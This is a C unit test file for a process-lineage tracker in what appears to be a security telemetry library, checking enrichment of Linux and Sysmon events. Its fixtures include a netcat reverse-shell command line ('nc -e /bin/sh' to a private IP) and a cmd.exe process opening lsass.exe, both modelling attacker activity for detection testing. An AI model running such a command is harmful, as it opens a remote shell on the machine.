/* SPDX-License-Identifier: Apache-2.0 */

/* core/track/tracker.c, with lineage.c, event_facts.c and enrich.c behind it */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "core/event/event.h"
#include "sonda/spi/linux_record.h"
#include "sonda/tracker.h"

#define SECOND UINT64_C(1000000000)

static sonda_tracker *tracker;
static sonda_event *event;

static int open_both(void **state)
{
    sonda_tracker_options options = SONDA_TRACKER_OPTIONS_INIT;

    (void)state;
    options.max_processes = 64;
    return sonda_tracker_open(&tracker, &options, NULL) == SONDA_OK &&
                   sonda_event_open(&event, NULL) == SONDA_OK
               ? 0
               : -1;
}

static int close_both(void **state)
{
    (void)state;
    sonda_event_close(event);
    sonda_tracker_close(tracker);
    return 0;
}

/* One field of an event to make. */
typedef struct pair {
    sonda_field_id id;
    const char *text;
} pair;

static void begin(uint16_t source, uint16_t type, uint16_t flags, uint64_t time_ns)
{
    sonda_record_header header = {0};

    header.source = source;
    header.type = type;
    header.flags = flags;
    header.wall_ns = time_ns;
    sonda__event_begin(event, &header, sonda__names_of_table());
    event->product = SONDA_PRODUCT_LINUX;
}

static void add_pairs(const pair *pairs)
{
    for (; pairs->text != NULL; pairs++) {
        assert_int_equal(sonda__event_add(event, pairs->id, sonda__span_of("", 0),
                                          sonda__span_text(pairs->text), 0),
                         SONDA_OK);
    }
}

/* An event of the Linux adapter, applied. */
static void apply_linux(uint16_t type, uint64_t time_ns, uint16_t flags, const pair *pairs)
{
    begin(SONDA_SOURCE_LINUX, type, flags, time_ns);
    event->class_uid = type <= SONDA_LINUX_EXIT ? SONDA_CLASS_PROCESS : SONDA_CLASS_FILE;
    event->activity_id = type == SONDA_LINUX_EXEC   ? SONDA_PROCESS_LAUNCH
                         : type == SONDA_LINUX_EXIT ? SONDA_PROCESS_TERMINATE
                         : type == SONDA_LINUX_FORK ? SONDA_ACTIVITY_OTHER
                                                    : SONDA_FILE_CREATE;
    add_pairs(pairs);
    assert_int_equal(sonda_tracker_apply(tracker, event), SONDA_OK);
}

/* A Sysmon event in flat JSON, applied. */
static void apply_sysmon(uint32_t class_uid, uint32_t activity_id, const pair *pairs)
{
    begin(SONDA_SOURCE_JSON, 0, 0, 100 * SECOND);
    event->product = SONDA_PRODUCT_WINDOWS;
    event->channel = sonda__span_text("Microsoft-Windows-Sysmon/Operational");
    event->class_uid = class_uid;
    event->activity_id = activity_id;
    add_pairs(pairs);
    assert_int_equal(sonda_tracker_apply(tracker, event), SONDA_OK);
}

static void exec_shell(void)
{
    const pair shell[] = {{SONDA_FIELD_PROCESS_ID, "10"},
                          {SONDA_FIELD_PROCESS_START, "1000"},
                          {SONDA_FIELD_PARENT_PROCESS_ID, "1"},
                          {SONDA_FIELD_PARENT_PROCESS_START, "1"},
                          {SONDA_FIELD_IMAGE, "/bin/sh"},
                          {SONDA_FIELD_COMMAND_LINE, "sh -i"},
                          {SONDA_FIELD_USER, "alice"},
                          {SONDA_FIELD_CURRENT_DIRECTORY, "/home/alice"},
                          {0, NULL}};

    apply_linux(SONDA_LINUX_EXEC, 100 * SECOND, 0, shell);
}

static void fork_child(void)
{
    const pair child[] = {{SONDA_FIELD_PROCESS_ID, "11"},
                          {SONDA_FIELD_PROCESS_START, "2000"},
                          {SONDA_FIELD_PARENT_PROCESS_ID, "10"},
                          {SONDA_FIELD_PARENT_PROCESS_START, "1000"},
                          {0, NULL}};

    apply_linux(SONDA_LINUX_FORK, 101 * SECOND, 0, child);
}

static void exec_child(void)
{
    const pair child[] = {{SONDA_FIELD_PROCESS_ID, "11"},
                          {SONDA_FIELD_PROCESS_START, "2000"},
                          {SONDA_FIELD_PARENT_PROCESS_ID, "10"},
                          {SONDA_FIELD_PARENT_PROCESS_START, "1000"},
                          {SONDA_FIELD_IMAGE, "/usr/bin/nc"},
                          {SONDA_FIELD_COMMAND_LINE, "nc -e /bin/sh 10.0.0.1 4444"},
                          {0, NULL}};

    apply_linux(SONDA_LINUX_EXEC, 102 * SECOND, 0, child);
}

static void write_file_as(const char *pid, const char *start)
{
    const pair file[] = {{SONDA_FIELD_PROCESS_ID, pid},
                         {SONDA_FIELD_PROCESS_START, start},
                         {SONDA_FIELD_TARGET_FILENAME, "/tmp/x"},
                         {0, NULL}};

    apply_linux(SONDA_LINUX_OPEN, 103 * SECOND, 0, file);
}

static void exit_child(uint64_t time_ns)
{
    const pair child[] = {
        {SONDA_FIELD_PROCESS_ID, "11"}, {SONDA_FIELD_PROCESS_START, "2000"}, {0, NULL}};

    apply_linux(SONDA_LINUX_EXIT, time_ns, 0, child);
}

static void assert_field(sonda_field_id id, const char *text, uint16_t flags)
{
    const sonda__field *field = sonda__event_find(event, id);

    assert_non_null(field);
    assert_int_equal(field->text.len, strlen(text));
    assert_memory_equal(field->text.data, text, strlen(text));
    assert_int_equal(field->flags, flags);
}

static sonda_tracker_numbers numbers(void)
{
    sonda_tracker_numbers now = SONDA_TRACKER_NUMBERS_INIT;

    assert_int_equal(sonda_tracker_stats(tracker, &now), SONDA_OK);
    return now;
}

static void test_apply__exec__gets_its_parents_image_and_command_line(void **state)
{
    (void)state;
    exec_shell();
    fork_child();
    exec_child();

    assert_field(SONDA_FIELD_PARENT_IMAGE, "/bin/sh", SONDA_VALUE_ENRICHED);
    assert_field(SONDA_FIELD_PARENT_COMMAND_LINE, "sh -i", SONDA_VALUE_ENRICHED);
    assert_field(SONDA_FIELD_IMAGE, "/usr/bin/nc", 0);
    assert_field(SONDA_FIELD_COMMAND_LINE, "nc -e /bin/sh 10.0.0.1 4444", 0);
}

static void test_apply__exec_after_fork__inherits_directory_and_user(void **state)
{
    (void)state;
    exec_shell();
    fork_child();
    exec_child();

    assert_field(SONDA_FIELD_CURRENT_DIRECTORY, "/home/alice", SONDA_VALUE_ENRICHED);
    assert_field(SONDA_FIELD_USER, "alice", SONDA_VALUE_ENRICHED);
}

static void test_apply__file_event__gets_the_acting_process(void **state)
{
    (void)state;
    exec_shell();
    fork_child();
    exec_child();
    write_file_as("11", "2000");

    assert_field(SONDA_FIELD_IMAGE, "/usr/bin/nc", SONDA_VALUE_ENRICHED);
    assert_field(SONDA_FIELD_COMMAND_LINE, "nc -e /bin/sh 10.0.0.1 4444", SONDA_VALUE_ENRICHED);
    assert_field(SONDA_FIELD_PARENT_IMAGE, "/bin/sh", SONDA_VALUE_ENRICHED);
    assert_field(SONDA_FIELD_PARENT_PROCESS_ID, "10", SONDA_VALUE_ENRICHED);
}

static void test_apply__fork_without_exec__acts_as_its_parent(void **state)
{
    (void)state;
    exec_shell();
    fork_child();
    write_file_as("11", "2000");

    assert_field(SONDA_FIELD_IMAGE, "/bin/sh", SONDA_VALUE_ENRICHED);
    assert_field(SONDA_FIELD_COMMAND_LINE, "sh -i", SONDA_VALUE_ENRICHED);
}

static void test_apply__field_present__is_not_overwritten(void **state)
{
    const pair file[] = {{SONDA_FIELD_PROCESS_ID, "10"},
                         {SONDA_FIELD_PROCESS_START, "1000"},
                         {SONDA_FIELD_USER, "root"},
                         {0, NULL}};

    (void)state;
    exec_shell();
    apply_linux(SONDA_LINUX_OPEN, 101 * SECOND, 0, file);

    assert_field(SONDA_FIELD_USER, "root", 0);
    assert_field(SONDA_FIELD_IMAGE, "/bin/sh", SONDA_VALUE_ENRICHED);
}

static void test_apply__late_event_after_exit__still_gets_its_process(void **state)
{
    (void)state;
    exec_shell();
    fork_child();
    exec_child();
    exit_child(104 * SECOND);
    write_file_as("11", "2000");

    assert_field(SONDA_FIELD_IMAGE, "/usr/bin/nc", SONDA_VALUE_ENRICHED);
}

static void test_apply__exited_long_ago__is_forgotten(void **state)
{
    (void)state;
    exec_shell();
    fork_child();
    exec_child();
    exit_child(104 * SECOND);
    write_file_as("10", "1000");
    begin(SONDA_SOURCE_LINUX, SONDA_LINUX_OPEN, 0, 165 * SECOND);
    assert_int_equal(sonda_tracker_apply(tracker, event), SONDA_OK);
    write_file_as("11", "2000");

    assert_null(sonda__event_find(event, SONDA_FIELD_IMAGE));
    assert_int_equal(numbers().expired, 1);
}

static void test_apply__pid_reused__is_another_process(void **state)
{
    const pair other[] = {{SONDA_FIELD_PROCESS_ID, "10"},
                          {SONDA_FIELD_PROCESS_START, "9000"},
                          {SONDA_FIELD_IMAGE, "/usr/bin/curl"},
                          {SONDA_FIELD_COMMAND_LINE, "curl x"},
                          {0, NULL}};

    (void)state;
    exec_shell();
    apply_linux(SONDA_LINUX_EXEC, 105 * SECOND, 0, other);
    write_file_as("10", "9000");

    assert_field(SONDA_FIELD_IMAGE, "/usr/bin/curl", SONDA_VALUE_ENRICHED);
    assert_null(sonda__event_find(event, SONDA_FIELD_USER));
    assert_int_equal(numbers().pids_reused, 1);
    write_file_as("10", "1000");
    assert_field(SONDA_FIELD_IMAGE, "/bin/sh", SONDA_VALUE_ENRICHED);
}

static void test_apply__exec_again__forgets_the_former_command_line(void **state)
{
    const pair again[] = {{SONDA_FIELD_PROCESS_ID, "10"},
                          {SONDA_FIELD_PROCESS_START, "1000"},
                          {SONDA_FIELD_IMAGE, "/usr/bin/id"},
                          {0, NULL}};

    (void)state;
    exec_shell();
    apply_linux(SONDA_LINUX_EXEC, 105 * SECOND, 0, again);

    assert_null(sonda__event_find(event, SONDA_FIELD_COMMAND_LINE));
    assert_field(SONDA_FIELD_USER, "alice", SONDA_VALUE_ENRICHED);
}

static void test_apply__snapshot_older_than_the_exec__changes_nothing(void **state)
{
    const pair old[] = {{SONDA_FIELD_PROCESS_ID, "10"},
                        {SONDA_FIELD_PROCESS_START, "1000"},
                        {SONDA_FIELD_IMAGE, "/usr/sbin/sshd"},
                        {0, NULL}};

    (void)state;
    exec_shell();
    apply_linux(SONDA_LINUX_EXEC, 99 * SECOND, SONDA_RECORD_SNAPSHOT, old);
    write_file_as("10", "1000");

    assert_field(SONDA_FIELD_IMAGE, "/bin/sh", SONDA_VALUE_ENRICHED);
}

static void test_apply__snapshot_newer_than_a_fork__corrects_it(void **state)
{
    const pair seen[] = {{SONDA_FIELD_PROCESS_ID, "11"},
                         {SONDA_FIELD_PROCESS_START, "2000"},
                         {SONDA_FIELD_IMAGE, "/usr/bin/vim"},
                         {SONDA_FIELD_COMMAND_LINE, "vim x"},
                         {0, NULL}};

    (void)state;
    exec_shell();
    fork_child();
    apply_linux(SONDA_LINUX_EXEC, 102 * SECOND, SONDA_RECORD_SNAPSHOT, seen);
    write_file_as("11", "2000");

    assert_field(SONDA_FIELD_IMAGE, "/usr/bin/vim", SONDA_VALUE_ENRICHED);
    assert_field(SONDA_FIELD_PARENT_IMAGE, "/bin/sh", SONDA_VALUE_ENRICHED);
}

static void test_apply__audit_event_by_pid_alone__finds_the_parent(void **state)
{
    const pair parent[] = {{SONDA_FIELD_PROCESS_ID, "50"},
                           {SONDA_FIELD_PARENT_PROCESS_ID, "1"},
                           {SONDA_FIELD_IMAGE, "/bin/bash"},
                           {SONDA_FIELD_COMMAND_LINE, "bash"},
                           {0, NULL}};
    const pair child[] = {{SONDA_FIELD_PROCESS_ID, "51"},
                          {SONDA_FIELD_PARENT_PROCESS_ID, "50"},
                          {SONDA_FIELD_IMAGE, "/bin/ls"},
                          {0, NULL}};

    (void)state;
    begin(SONDA_SOURCE_AUDIT, 0, 0, 100 * SECOND);
    event->class_uid = SONDA_CLASS_PROCESS;
    event->activity_id = SONDA_PROCESS_LAUNCH;
    add_pairs(parent);
    assert_int_equal(sonda_tracker_apply(tracker, event), SONDA_OK);
    begin(SONDA_SOURCE_AUDIT, 0, 0, 101 * SECOND);
    event->class_uid = SONDA_CLASS_PROCESS;
    event->activity_id = SONDA_PROCESS_LAUNCH;
    add_pairs(child);
    assert_int_equal(sonda_tracker_apply(tracker, event), SONDA_OK);

    assert_field(SONDA_FIELD_PARENT_IMAGE, "/bin/bash", SONDA_VALUE_ENRICHED);
    assert_field(SONDA_FIELD_PARENT_COMMAND_LINE, "bash", SONDA_VALUE_ENRICHED);
}

static void sysmon_start(void)
{
    const pair start[] = {
        {SONDA_FIELD_COMPUTER, "WS1"},
        {SONDA_FIELD_PROCESS_GUID, "{365ABB72-3D4A-5CEB-0000-0010FA93FD00}"},
        {SONDA_FIELD_PROCESS_ID, "700"},
        {SONDA_FIELD_IMAGE, "C:\\Windows\\System32\\cmd.exe"},
        {SONDA_FIELD_COMMAND_LINE, "cmd /c whoami"},
        {SONDA_FIELD_USER, "WS1\\alice"},
        {SONDA_FIELD_PARENT_PROCESS_GUID, "{365ABB72-3D4A-5CEB-0000-001000000001}"},
        {SONDA_FIELD_PARENT_PROCESS_ID, "600"},
        {SONDA_FIELD_PARENT_IMAGE, "C:\\Windows\\explorer.exe"},
        {SONDA_FIELD_PARENT_COMMAND_LINE, "explorer.exe"},
        {0, NULL}};

    apply_sysmon(SONDA_CLASS_PROCESS, SONDA_PROCESS_LAUNCH, start);
}

static void test_apply__sysmon_file_event__gets_hidden_lineage_by_guid(void **state)
{
    const uint16_t hidden = SONDA_VALUE_ENRICHED | SONDA_VALUE_HIDDEN;
    const pair file[] = {{SONDA_FIELD_COMPUTER, "WS1"},
                         {SONDA_FIELD_PROCESS_GUID, "{365ABB72-3D4A-5CEB-0000-0010FA93FD00}"},
                         {SONDA_FIELD_PROCESS_ID, "700"},
                         {SONDA_FIELD_IMAGE, "C:\\WINDOWS\\system32\\cmd.exe"},
                         {SONDA_FIELD_TARGET_FILENAME, "C:\\x.txt"},
                         {0, NULL}};

    (void)state;
    sysmon_start();
    apply_sysmon(SONDA_CLASS_FILE, SONDA_FILE_CREATE, file);

    assert_field(SONDA_FIELD_IMAGE, "C:\\WINDOWS\\system32\\cmd.exe", 0);
    assert_field(SONDA_FIELD_COMMAND_LINE, "cmd /c whoami", hidden);
    assert_field(SONDA_FIELD_PARENT_IMAGE, "C:\\Windows\\explorer.exe", hidden);
    assert_int_equal(event->chain_count, 2);
    assert_true(sonda__span_is(event->chain[1].command_line, "explorer.exe"));
}

static void test_apply__same_guid_on_another_computer__is_unknown(void **state)
{
    const pair file[] = {{SONDA_FIELD_COMPUTER, "WS2"},
                         {SONDA_FIELD_PROCESS_GUID, "{365ABB72-3D4A-5CEB-0000-0010FA93FD00}"},
                         {SONDA_FIELD_TARGET_FILENAME, "C:\\x.txt"},
                         {0, NULL}};

    (void)state;
    sysmon_start();
    apply_sysmon(SONDA_CLASS_FILE, SONDA_FILE_CREATE, file);

    assert_int_equal(event->chain_count, 0);
    assert_int_equal(event->field_count, 3);
}

static void test_apply__same_pid_on_two_hosts__are_two_processes(void **state)
{
    const pair first[] = {{SONDA_FIELD_HOSTNAME, "WS1"},
                          {SONDA_FIELD_NEW_PROCESS_ID, "0x10"},
                          {SONDA_FIELD_NEW_PROCESS_NAME, "C:\\a.exe"},
                          {SONDA_FIELD_COMMAND_LINE, "a.exe -x"},
                          {0, NULL}};
    const pair second[] = {{SONDA_FIELD_HOSTNAME, "WS2"},
                           {SONDA_FIELD_PROCESS_ID, "0x10"},
                           {SONDA_FIELD_TARGET_FILENAME, "C:\\x.txt"},
                           {0, NULL}};

    (void)state;
    apply_sysmon(SONDA_CLASS_PROCESS, SONDA_PROCESS_LAUNCH, first);
    apply_sysmon(SONDA_CLASS_FILE, SONDA_FILE_CREATE, second);

    assert_null(sonda__event_find(event, SONDA_FIELD_COMMAND_LINE));
    assert_int_equal(event->chain_count, 0);
}

static void test_apply__process_access__keeps_the_target_apart(void **state)
{
    const pair access[] = {
        {SONDA_FIELD_COMPUTER, "WS1"},
        {SONDA_FIELD_SOURCE_PROCESS_GUID_UPPER, "{365ABB72-3D4A-5CEB-0000-0010FA93FD00}"},
        {SONDA_FIELD_SOURCE_PROCESS_ID, "700"},
        {SONDA_FIELD_SOURCE_IMAGE, "C:\\Windows\\System32\\cmd.exe"},
        {SONDA_FIELD_TARGET_IMAGE, "C:\\Windows\\System32\\lsass.exe"},
        {0, NULL}};

    (void)state;
    sysmon_start();
    apply_sysmon(SONDA_CLASS_PROCESS, SONDA_PROCESS_OPEN, access);

    assert_null(sonda__event_find(event, SONDA_FIELD_IMAGE));
    assert_null(sonda__event_find(event, SONDA_FIELD_COMMAND_LINE));
    assert_field(SONDA_FIELD_SOURCE_COMMAND_LINE, "cmd /c whoami",
                 SONDA_VALUE_ENRICHED | SONDA_VALUE_HIDDEN);
    assert_int_equal(event->chain_count, 2);
}

static void test_apply__security_4688__knows_creator_by_hexadecimal_pid(void **state)
{
    const pair first[] = {{SONDA_FIELD_NEW_PROCESS_ID, "0x10"},
                          {SONDA_FIELD_NEW_PROCESS_NAME, "C:\\a.exe"},
                          {SONDA_FIELD_COMMAND_LINE, "a.exe -x"},
                          {SONDA_FIELD_PROCESS_ID, "0x4"},
                          {0, NULL}};
    const pair second[] = {{SONDA_FIELD_NEW_PROCESS_ID, "0x20"},
                           {SONDA_FIELD_NEW_PROCESS_NAME, "C:\\b.exe"},
                           {SONDA_FIELD_PROCESS_ID, "0x10"},
                           {SONDA_FIELD_PARENT_PROCESS_NAME, "C:\\a.exe"},
                           {0, NULL}};

    (void)state;
    apply_sysmon(SONDA_CLASS_PROCESS, SONDA_PROCESS_LAUNCH, first);
    apply_sysmon(SONDA_CLASS_PROCESS, SONDA_PROCESS_LAUNCH, second);

    assert_null(sonda__event_find(event, SONDA_FIELD_IMAGE));
    assert_null(sonda__event_find(event, SONDA_FIELD_PARENT_IMAGE));
    assert_field(SONDA_FIELD_PARENT_COMMAND_LINE, "a.exe -x",
                 SONDA_VALUE_ENRICHED | SONDA_VALUE_HIDDEN);
    assert_int_equal(event->chain[1].pid, 0x10);
}

static void test_process__ancestor__is_found_by_steps(void **state)
{
    sonda_process_view view = SONDA_PROCESS_VIEW_INIT;

    (void)state;
    exec_shell();
    fork_child();
    exec_child();

    assert_int_equal(sonda_tracker_process(tracker, 11, 2000, 1, &view), SONDA_OK);
    assert_int_equal(view.pid, 10);
    assert_int_equal(view.command_line_len, 5);
    assert_memory_equal(view.command_line, "sh -i", 5);
    assert_int_equal(sonda_tracker_process(tracker, 11, 2000, 2, &view), SONDA_ERR_NOT_FOUND);
}

static void test_open__default_size__is_about_16_megabytes(void **state)
{
    sonda_tracker *standard = NULL;
    sonda_tracker_numbers at_open = SONDA_TRACKER_NUMBERS_INIT;

    (void)state;
    assert_int_equal(sonda_tracker_open(&standard, NULL, NULL), SONDA_OK);
    assert_int_equal(sonda_tracker_stats(standard, &at_open), SONDA_OK);
    sonda_tracker_close(standard);

    assert_in_range(at_open.memory_bytes, 22u << 20, 30u << 20);
}

static void test_open__the_fewest_processes__works_with_default_texts(void **state)
{
    sonda_tracker_options options = SONDA_TRACKER_OPTIONS_INIT;
    sonda_tracker *smallest = NULL;

    (void)state;
    options.max_processes = 16;

    assert_int_equal(sonda_tracker_open(&smallest, &options, NULL), SONDA_OK);
    sonda_tracker_close(smallest);
}

static void test_open__a_size_out_of_range__is_refused(void **state)
{
    sonda_tracker_options options = SONDA_TRACKER_OPTIONS_INIT;
    sonda_tracker *refused = NULL;

    (void)state;
    options.max_processes = 15;

    assert_int_equal(sonda_tracker_open(&refused, &options, NULL), SONDA_ERR_INVALID_ARGUMENT);
    assert_null(refused);
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, open_both, close_both)

int main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(test_apply__exec__gets_its_parents_image_and_command_line),
        TEST(test_apply__exec_after_fork__inherits_directory_and_user),
        TEST(test_apply__file_event__gets_the_acting_process),
        TEST(test_apply__fork_without_exec__acts_as_its_parent),
        TEST(test_apply__field_present__is_not_overwritten),
        TEST(test_apply__late_event_after_exit__still_gets_its_process),
        TEST(test_apply__exited_long_ago__is_forgotten),
        TEST(test_apply__pid_reused__is_another_process),
        TEST(test_apply__exec_again__forgets_the_former_command_line),
        TEST(test_apply__snapshot_older_than_the_exec__changes_nothing),
        TEST(test_apply__snapshot_newer_than_a_fork__corrects_it),
        TEST(test_apply__audit_event_by_pid_alone__finds_the_parent),
        TEST(test_apply__sysmon_file_event__gets_hidden_lineage_by_guid),
        TEST(test_apply__same_guid_on_another_computer__is_unknown),
        TEST(test_apply__same_pid_on_two_hosts__are_two_processes),
        TEST(test_apply__process_access__keeps_the_target_apart),
        TEST(test_apply__security_4688__knows_creator_by_hexadecimal_pid),
        TEST(test_process__ancestor__is_found_by_steps),
        TEST(test_open__default_size__is_about_16_megabytes),
        TEST(test_open__the_fewest_processes__works_with_default_texts),
        TEST(test_open__a_size_out_of_range__is_refused),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
